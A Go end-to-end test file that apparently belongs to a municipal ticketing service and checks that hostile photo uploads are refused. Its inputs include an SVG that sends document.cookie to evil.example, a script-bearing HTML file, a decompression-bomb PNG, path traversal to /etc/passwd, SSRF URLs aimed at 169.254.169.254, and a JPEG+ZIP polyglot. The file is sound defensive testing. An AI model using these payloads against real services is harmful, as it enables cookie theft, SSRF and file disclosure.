package e2e

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"image"
	"image/jpeg"
	"io"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"google.golang.org/grpc/codes"

	ticketv1 "github.com/salga/trustengine/gen/go/salga/ticket/v1"
)

// photoHostileEnv shortens the upload idle timeouts so that a stalled
// upload (a byte a minute) is refused within the test.
var photoHostileEnv = []string{"GATEWAY_UPLOAD_IDLE_TIMEOUT=1s", "ATTACHMENT_IDLE_TIMEOUT=1s"}

// pngDeclaring is a PNG whose header declares w by h pixels, with one
// tiny block of image data: a decompression bomb's header.
func pngDeclaring(w, h uint32) []byte {
	chunk := func(kind string, data []byte) []byte {
		out := binary.BigEndian.AppendUint32(nil, uint32(len(data)))
		out = append(append(out, kind...), data...)
		return binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(append([]byte(kind), data...)))
	}
	ihdr := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, w), h)
	out := []byte("\x89PNG\r\n\x1a\n")
	out = append(out, chunk("IHDR", append(ihdr, 8, 6, 0, 0, 0))...)
	out = append(out, chunk("IDAT", []byte{0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01})...)
	return append(out, chunk("IEND", nil)...)
}

// grpcUpload streams data to ticket as one upload as the caller of tc,
// pausing for pause after the first message when it is set.
func grpcUpload(tc ticketv1.TicketServiceClient, ticket, name string, data []byte, chunk int, pause time.Duration) error {
	stream, err := tc.UploadAttachment(context.Background())
	if err != nil {
		return err
	}
	if err := stream.Send(&ticketv1.UploadAttachmentRequest{Part: &ticketv1.UploadAttachmentRequest_Upload{
		Upload: &ticketv1.AttachmentUpload{TicketId: ticket, FileName: name}}}); err != nil && !errors.Is(err, io.EOF) {
		return err
	}
	if pause > 0 {
		// A sender of a byte a minute: the service must not wait for it.
		_ = stream.Send(&ticketv1.UploadAttachmentRequest{Part: &ticketv1.UploadAttachmentRequest_Data{Data: data[:1]}})
		return stream.RecvMsg(new(ticketv1.UploadAttachmentResponse))
	}
	for len(data) > 0 {
		n := min(chunk, len(data))
		if stream.Send(&ticketv1.UploadAttachmentRequest{Part: &ticketv1.UploadAttachmentRequest_Data{Data: data[:n]}}) != nil {
			break
		}
		data = data[n:]
	}
	_, err = stream.CloseAndRecv()
	return err
}

// hostilePhotos sends every hostile photo of the issue through the
// gateway (JSON API and Open311, key is an Open311 key of TST) and over
// gRPC: each must be refused with its reason, and no object may be left
// in storage.
func (s *suite) hostilePhotos(t *testing.T, w *world, ty *tally, key string) {
	t.Helper()
	agent := w.token("TST", "agent")
	id := w.water["TST"]
	sample := testPhoto(t, "goexif/sample1.jpg")
	svg := []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="fetch('//evil.example/'+document.cookie)"/>`)
	html := []byte(`<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>`)
	for _, tc := range []struct {
		name, path, says string
		parts            []part
		want             int
	}{
		{"a 25 MB photo", "/v1/tickets/" + id + "/attachments", "larger than 20971520 bytes",
			[]part{file("file", "big.jpg", append(bytes.Clone(sample), make([]byte, 25<<20)...))}, 413},
		{"a PNG that declares 50,000 x 50,000 pixels", "/v1/tickets/" + id + "/attachments", "declares 50000x50000 = 2500000000 pixels",
			[]part{file("file", "bomb.png", pngDeclaring(50000, 50000))}, 400},
		{"a JPEG with a truncated body", "/v1/tickets/" + id + "/attachments", "is not a complete JPEG image",
			[]part{file("file", "cut.jpg", sample[:len(sample)/2])}, 400},
		{"an SVG file named .jpg", "/v1/tickets/" + id + "/attachments", "found an SVG image",
			[]part{file("file", "pothole.jpg", svg)}, 400},
		{"an HTML file named .jpg", "/v1/tickets/" + id + "/attachments", "found text/html",
			[]part{file("file", "pothole.jpg", html)}, 400},
		{"a path in the file name", "/v1/tickets/" + id + "/attachments", "must be a file name, not a path",
			[]part{file("file", "../../etc/passwd", sample)}, 400},
		{"a photo for a ticket of another tenant", "/v1/tickets/" + w.water["OTH"] + "/attachments", "ticket not found",
			[]part{file("file", "p.jpg", sample)}, 404},
		{"a new ticket with an SVG photo", "/v1/tickets", "found an SVG image",
			[]part{field("ticket", `{"category":"CATEGORY_ROADS","description":"x","location":{"latitude":-33.9,"longitude":18.45}}`),
				file("file", "p.jpg", svg)}, 400},
	} {
		code, body := s.postMultipart(tc.path, agent, tc.parts...)
		ty.http(t, "photo: "+tc.name, code, body, tc.want)
		require.Contains(t, body["message"], tc.says, tc.name)
	}

	// A body that stalls (a byte a minute) is cut off after the idle
	// timeout.
	ct, stalled := multipartBody(t, file("file", "slow.jpg", sample))
	pr, pw := io.Pipe()
	go func() {
		_, _ = pw.Write(stalled[:len(stalled)/2])
		time.Sleep(5 * time.Second)
		_ = pw.CloseWithError(errors.New("the sender gave up"))
	}()
	code, body := s.postBody("/v1/tickets/"+id+"/attachments", agent, ct, pr)
	ty.http(t, "photo: a stalled upload", code, body, 408)
	require.Contains(t, body["message"], "upload stalled: nothing arrived for 1s")

	// Open311: a media file that is no photo, and media_urls the gateway
	// must not fetch.
	report := func(extra ...part) []part {
		return append([]part{field("jurisdiction_id", "TST"), field("api_key", key), field("service_code", "roads"),
			field("lat", "-33.9"), field("long", "18.45"), field("description", "Pothole")}, extra...)
	}
	for _, tc := range []struct {
		name, says string
		extra      part
	}{
		{"an SVG as media", "found an SVG image", file("media", "pothole.jpg", svg)},
		{"a media_url at the cloud metadata address", "169.254.169.254 is not a public address", field("media_url", "http://169.254.169.254/latest/meta-data/")},
		{"a media_url on loopback", "is not a public address", field("media_url", s.gatewayURL+"/healthz")},
		{"a media_url in the municipality's network", "10.0.0.5 is not a public address", field("media_url", "http://10.0.0.5/photo.jpg")},
		{"a file media_url", "only http and https URLs are fetched", field("media_url", "file:///etc/passwd")},
	} {
		code, body := s.postMultipart("/open311/v2/requests.json", "", report(tc.extra)...)
		ty.http(t, "Open311 photo: "+tc.name, code, body, 400)
		list, _ := body["list"].([]any)
		require.Len(t, list, 1, "%v", body)
		require.Contains(t, list[0].(map[string]any)["description"], tc.says, tc.name)
	}

	// gRPC: the ticket service's own limits.
	tc := w.ticket("TST", "agent")
	for _, g := range []struct {
		name   string
		ticket string
		data   []byte
		chunk  int
		pause  time.Duration
		want   codes.Code
	}{
		{"a 25 MB upload", id, append(bytes.Clone(sample), make([]byte, 25<<20)...), 64 << 10, 0, codes.InvalidArgument},
		{"a message over 64 KiB", id, append(bytes.Clone(sample), make([]byte, 64<<10)...), 128 << 10, 0, codes.InvalidArgument},
		{"a stalled upload", id, sample, 64 << 10, 3 * time.Second, codes.InvalidArgument},
		{"an upload to another tenant's ticket", w.water["OTH"], sample, 64 << 10, 0, codes.NotFound},
		{"a PNG that declares 50,000 x 50,000 pixels", id, pngDeclaring(50000, 50000), 64 << 10, 0, codes.InvalidArgument},
	} {
		ty.grpc(t, "gRPC photo: "+g.name, grpcUpload(tc, g.ticket, "p.jpg", g.data, g.chunk, g.pause), g.want)
	}
	require.Empty(t, storedFiles(t, s.attachmentDir), "no object left behind")
}

// polyglotIsStoredClean sends a JPEG with a ZIP archive appended (also a
// valid ZIP): it is a photo, so it is accepted, and what is stored is a
// fresh JPEG of its pixels, without the archive.
func (s *suite) polyglotIsStoredClean(t *testing.T, w *world) {
	t.Helper()
	m := image.NewRGBA(image.Rect(0, 0, 64, 48))
	var jpg bytes.Buffer
	require.NoError(t, jpeg.Encode(&jpg, m, nil))
	zip := []byte("PK\x03\x04\x14\x00\x00\x00\x00\x00run.sh#!/bin/sh\nid\nPK\x05\x06\x00\x00\x00\x00")
	code, body := s.postMultipart("/v1/tickets/"+w.water["TST"]+"/attachments", w.token("TST", "agent"),
		file("file", "poly.jpg", append(jpg.Bytes(), zip...)))
	require.Equal(t, 200, code, "%v", body)
	a := attachment(t, body)
	code, stored, _ := s.fetch(a["download_url"].(string), w.token("TST", "agent"))
	require.Equal(t, 200, code)
	require.False(t, bytes.Contains(stored, []byte("PK\x03\x04")), "the archive is gone")
	for _, raw := range storedFiles(t, s.attachmentDir) {
		require.False(t, bytes.Contains(raw, []byte("run.sh")), "the archive is not in storage")
	}
	line := "bad input: a JPEG+ZIP polyglot is stored as a fresh JPEG of its pixels, without the archive"
	t.Log(line)
	fmt.Println(line)
}
